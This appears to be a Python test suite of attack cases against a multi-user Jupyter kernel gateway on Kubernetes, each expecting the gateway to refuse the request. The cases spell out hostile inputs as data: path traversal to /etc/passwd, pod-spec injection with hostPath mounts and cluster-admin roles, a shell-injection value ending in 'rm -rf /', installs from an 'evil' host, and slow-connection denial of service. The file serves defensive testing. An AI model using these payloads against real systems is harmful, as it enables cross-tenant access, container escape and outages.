"""Attacks by requests to the gateway, with the token of mallory's own server."""

from __future__ import annotations

import asyncio
import json
import uuid
from typing import Any
from urllib.parse import urlsplit

from tests.attack.case import (
    GATEWAY,
    HTTP_SERVER,
    NOTHING,
    Answer,
    Case,
    Step,
    answer,
    rest,
)
from tests.attack.stage import SPEC, Stage

_OWN, _VICTIM = "/api/kernels/<own>", "/api/kernels/<victim>"
_GUESSES = 100
_DRIPPING = 50
_PATIENCE = 20.0


def starts(env: dict[str, Any] | None = None, name: str = SPEC, **more: Any) -> Step:
    """A start, and the end of what came of it."""

    async def step(stage: Stage) -> Answer:
        body = {"name": name, "env": env or {}, **more}
        result = await rest("POST", "/api/kernels", body)(stage)
        if result.status == 201:
            kernel = json.loads(result.text)["id"]
            await rest("DELETE", f"/api/kernels/{kernel}")(stage)
        return result

    return step


def inside(env: dict[str, Any], code: str, expected: str, **more: Any) -> Step:
    """A start with that environment; refused if the new kernel prints what is expected."""

    async def step(stage: Stage) -> Answer:
        made = await rest("POST", "/api/kernels", {"name": SPEC, "env": env, **more})(stage)
        if made.status != 201:
            return made
        kernel = json.loads(made.text)["id"]
        try:
            if kernel in (stage.victim, stage.own):
                return Answer(201, NOTHING, "another kernel was handed out")
            said = await _printed(stage, kernel, code)
        finally:
            await rest("DELETE", f"/api/kernels/{kernel}")(stage)
        return Answer("left out" if said == expected else "taken", _layer(said == expected), said)

    return step


async def _printed(stage: Stage, kernel: str, code: str) -> str:
    """What a cell prints in a kernel that no notebook server knows of."""
    reply = await stage.notebook.run(
        "websocket",
        url=f"{stage.url}/api/kernels/{kernel}/channels?session_id=x".replace("http", "ws", 1),
        headers={"Authorization": f"token {stage.token}"},
        messages=[_cell(code)],
        seconds=_PATIENCE,
    )
    text = ""
    for message in map(json.loads, reply["heard"]):
        if message["msg_type"] == "clear_output":  # what it waited for, until it ran
            text = ""
        elif message["msg_type"] == "stream" and message["content"]["name"] == "stdout":
            text += message["content"]["text"]
    return text.strip()


def _cell(code: str) -> str:
    """A message that runs code."""
    header = {"msg_id": uuid.uuid4().hex, "msg_type": "execute_request", "session": "s",
              "username": "", "version": "5.3", "date": "2026-01-01T00:00:00Z"}  # fmt: skip
    content = {"code": code, "silent": False, "allow_stdin": False}
    return json.dumps({"header": header, "parent_header": {}, "metadata": {}, "content": content,
                       "channel": "shell", "buffers": []})  # fmt: skip


def _layer(refused: bool) -> str:
    return GATEWAY if refused else NOTHING


def accepted(env: dict[str, Any], code: str, expected: str) -> Step:
    """A start with that environment, which has to reach the kernel."""

    async def step(stage: Stage) -> Answer:
        result = await inside(env, code, expected)(stage)
        return Answer(201) if result.denied else Answer("not passed on", GATEWAY, result.text)

    return step


def websocket(kernel: str, message: str | None = None, seconds: float = 2.0) -> Step:
    """A websocket to a kernel, and a cell (or something else) sent there."""

    async def step(stage: Stage) -> Answer:
        url = stage.filled(f"{stage.url}/api/kernels/{kernel}/channels?session_id=x")
        reply = await stage.notebook.run(
            "websocket",
            url=url.replace("http", "ws", 1),
            headers={"Authorization": f"token {stage.token}"},
            messages=[_cell("secret = 0") if message is None else message],
            seconds=seconds if message is not None else _PATIENCE,
        )
        if reply["status"] == 101:
            ran = any('"execute_reply"' in heard for heard in reply["heard"])
            return Answer(101, _layer(not ran), "")
        if reply["status"] == "closed":
            return Answer("closed", GATEWAY, str(reply["code"]))
        return answer(reply)

    return step


async def _lists_own(stage: Stage, headers: dict[str, str] | None = None) -> Answer:
    result = await rest("GET", "/api/kernels", headers=headers)(stage)
    ids = [model["id"] for model in json.loads(result.text)]
    return Answer(200, _layer(stage.victim not in ids and stage.own in ids), str(ids))


async def _listed_own(stage: Stage) -> Answer:
    result = await rest("GET", "/api/kernels")(stage)
    return Answer(200, _layer(stage.own not in result.text))


async def _claims_headers(stage: Stage) -> Answer:
    names = ("X-Forwarded-User", "X-Remote-User", "X-JupyterHub-User", "Remote-User")
    return await _lists_own(stage, dict.fromkeys(names, stage.ada.name))


async def _guesses(stage: Stage) -> Answer:
    ids = [str(uuid.uuid4()) for _ in range(_GUESSES)]
    ids += [stage.victim.upper(), stage.victim[:-1] + "0", "0" * 36, "-" * 36]
    results = [await rest("GET", f"/api/kernels/{one}")(stage) for one in ids]
    hit = [result for result in results if result.status != 404]
    return hit[0] if hit else results[0]


async def _drip(stage: Stage) -> Answer:
    """Many slow bodies. While they come, an ordinary request is answered."""
    parts = urlsplit(stage.url)
    dripping = asyncio.create_task(
        stage.notebook.run(
            "drip", host=parts.hostname, port=parts.port, token=stage.token, connections=_DRIPPING
        )
    )
    while not dripping.done():
        async with asyncio.timeout(5):
            await stage.mallory.kernels()  # through her notebook server, on its own connections
        await asyncio.wait({dripping}, timeout=1)
    result = dripping.result()
    return Answer(
        "closed", HTTP_SERVER if not result["left"] else NOTHING, f"{result['seconds']:.0f} s"
    )


async def _overlapping(stage: Stage) -> Answer:
    """Starts of two users at the same moment, each with a colour: does one get the other's?"""
    shows = "import os; print(os.environ['KERNEL_COLOUR'], os.environ['KERNEL_USERNAME'])"
    for _ in range(2):
        people = (stage.mallory, stage.ada)
        kernels = await asyncio.gather(
            *(p.start_kernel(SPEC, env={"KERNEL_COLOUR": f"of-{p.name}"}) for p in people)
        )
        try:
            for person, kernel in zip(people, kernels, strict=True):
                said = (await person.run(kernel, shows)).text.split()
                if said[1] != person.name or said[0] not in ("red", f"of-{person.name}"):
                    return Answer("leaked", NOTHING, str(said))
        finally:
            await asyncio.gather(
                *(p.shut_down(kernel) for p, kernel in zip(people, kernels, strict=True))
            )
    return Answer("kept apart", GATEWAY)


def _reserved(name: str, value: str) -> Case:
    twin = starts({"KERNEL_USERNAME": "mallory"}) if name == "KERNEL_USERNAME" else _LIST
    return Case(f"start with {name}={value.splitlines()[0]}", starts({name: value}), twin, GATEWAY)


_LIST = rest("GET", "/api/kernels")
_MODEL = rest("GET", _OWN)
_COLOUR = "import os; print(os.environ['KERNEL_COLOUR'])"
_YAML = "red\nserviceAccountName: elastic-gateway\nhostNetwork: true\n- {hostPath: {path: /}}"

CASES = [
    Case("look at another's kernel", rest("GET", _VICTIM), _MODEL, GATEWAY),
    Case("end another's kernel", rest("DELETE", _VICTIM), starts(), GATEWAY),
    Case("interrupt another's kernel", rest("POST", f"{_VICTIM}/interrupt", {}),
         rest("POST", f"{_OWN}/interrupt", {}), GATEWAY),
    Case("restart another's kernel", rest("POST", f"{_VICTIM}/restart", {}), _MODEL, GATEWAY),
    Case("claim another's kernel for a notebook",
         rest("PUT", f"{_VICTIM}/sessions", {"sessions": []}), _MODEL, GATEWAY),
    Case("a websocket to another's kernel", websocket("<victim>"), websocket("<own>"), GATEWAY),
    Case("see others' kernels in the list", _lists_own, _listed_own, GATEWAY),
    Case("claim to be another by headers", _claims_headers, _listed_own, GATEWAY),
    Case("guess ids", _guesses, _MODEL, GATEWAY),
    Case("cull another's kernel as the service would",
         rest("POST", f"{_VICTIM}/cull", {"idle_before": "2100-01-01T00:00:00Z"}), _MODEL, GATEWAY),
    Case("start into another's kernel by its id",
         inside({}, "print('secret' in globals())", "False", id="<victim>", kernel_id="<victim>"),
         _MODEL, GATEWAY),
    _reserved("KERNEL_USERNAME", "ada"),
    _reserved("KERNEL_ID", "00000000-0000-4000-8000-000000000000"),
    _reserved("KERNEL_IMAGE", "evil:latest"),
    _reserved("KERNEL_NAMESPACE", "kube-system"),
    _reserved("KERNEL_POD_NAME", "hub"),
    _reserved("KERNEL_SERVICE_ACCOUNT_NAME", "elastic-gateway"),
    _reserved("KERNEL_CLUSTER_ROLE", "cluster-admin"),
    _reserved("KERNEL_UID", "0"),
    _reserved("KERNEL_VOLUMES", "[{name: root, hostPath: {path: /}}]"),
    _reserved("KERNEL_VOLUME_MOUNTS", "[{name: root, mountPath: /host}]"),
    Case("inject variables into the pod",
         inside({"LD_PRELOAD": "/tmp/x.so", "PYTHONSTARTUP": "/tmp/x.py", "KERNEL_SHELL": "x"},
                "import os; print([n for n in os.environ if n in "
                "('LD_PRELOAD', 'PYTHONSTARTUP', 'KERNEL_SHELL')])", "[]"),
         accepted({"KERNEL_COLOUR": "blue"}, _COLOUR, "blue"), GATEWAY),
    Case("write YAML into a value",
         inside({"KERNEL_COLOUR": _YAML},
                f"import os; print(os.environ['KERNEL_COLOUR'] == {_YAML!r}, "
                "os.path.exists('/var/run/secrets/kubernetes.io'))", "True False"),
         accepted({"KERNEL_COLOUR": "a: b"}, _COLOUR, "a: b"), GATEWAY),
    Case("refer to other variables in a value",
         inside({"KERNEL_COLOUR": "$(KERNEL_USERNAME)$(PATH)"}, _COLOUR,
                "$(KERNEL_USERNAME)$(PATH)"),
         accepted({"KERNEL_COLOUR": "$5"}, _COLOUR, "$5"), GATEWAY,
         quick=False),
    Case("choose a text that is not allowed", starts({"KERNEL_COURSE": "x'; rm -rf /"}),
         starts({"KERNEL_COURSE": "physics"}), GATEWAY),
    Case("install a package from an address",
         starts({"KERNEL_PACKAGES": "example-x@http://evil/x.whl"}), _LIST, GATEWAY),
    Case("install a package by pip's options",
         starts({"KERNEL_PACKAGES": "--index-url=http://evil example-x"}), _LIST, GATEWAY),
    Case("a value with a NUL", starts({"KERNEL_COLOUR": "a\0b"}), _LIST, GATEWAY),
    Case("a value of megabytes", starts({"KERNEL_COLOUR": "x" * 500_000}), _LIST, GATEWAY),
    Case("a spec's name that is a path", starts(name="../../secrets/hub"), starts(), GATEWAY),
    Case("bring a pod template along",
         inside({}, "import os; print(os.path.exists('/host'))", "False",
                template={"spec": {"hostNetwork": True}}, image="evil", spec={"hostPID": True}),
         _MODEL, GATEWAY, quick=False),
    Case("overlapping starts", _overlapping, _LIST, GATEWAY, quick=False),
    Case("a path with dots to another's kernel", rest("GET", f"{_OWN}/../<victim>"), _MODEL,
         GATEWAY),
    Case("the same, encoded", rest("GET", f"{_OWN}%2f..%2f<victim>"), _MODEL, GATEWAY),
    Case("a path with doubled slashes", rest("GET", f"/{_VICTIM}"), _MODEL, GATEWAY),
    Case("another method by a header",
         rest("POST", _VICTIM, {}, headers={"X-HTTP-Method-Override": "DELETE"}), _MODEL, GATEWAY),
    Case("Enterprise Gateway's sessions", rest("GET", "/api/sessions"), _LIST, GATEWAY),
    Case("jupyter_server's shutdown", rest("POST", "/api/shutdown", {}), _LIST, GATEWAY),
    Case("files of the gateway's image", rest("GET", "/files/etc/passwd"), _LIST, GATEWAY),
    Case("its own code by static files", rest("GET", "/static/..%2fapp.py"), _LIST, GATEWAY),
    Case("a body that is no JSON", rest("POST", "/api/kernels", text="{"), _LIST, GATEWAY),
    Case("a body that is no object", rest("POST", "/api/kernels", [1]), _LIST, GATEWAY),
    Case("a body nested without end", rest("POST", "/api/kernels", text="[" * 100_000), _LIST,
         GATEWAY),
    Case("a body that is no text", rest("POST", "/api/kernels", text="\udcff"), _LIST, GATEWAY),
    Case("a body of megabytes", rest("POST", "/api/kernels", text="x" * 1000, repeat=5000), _LIST,
         HTTP_SERVER),
    Case("headers of megabytes", rest("GET", "/api/kernels", headers={"X": "x" * 100_000}), _LIST,
         HTTP_SERVER),
    Case("a websocket's message that is none", websocket("<own>", "{"), websocket("<own>"),
         GATEWAY),
    Case("slow bodies on many connections", _drip, _LIST, HTTP_SERVER, quick=False),
    Case("no token", rest("GET", "/api/kernels", token=False), _LIST, GATEWAY),
    Case("an empty token",
         rest("GET", "/api/kernels", token=False, headers={"Authorization": "token "}), _LIST,
         GATEWAY),
    Case("a made-up token",
         rest("GET", "/api/kernels", token=False, headers={"Authorization": "token " + "f" * 32}),
         _LIST, GATEWAY),
]  # fmt: skip
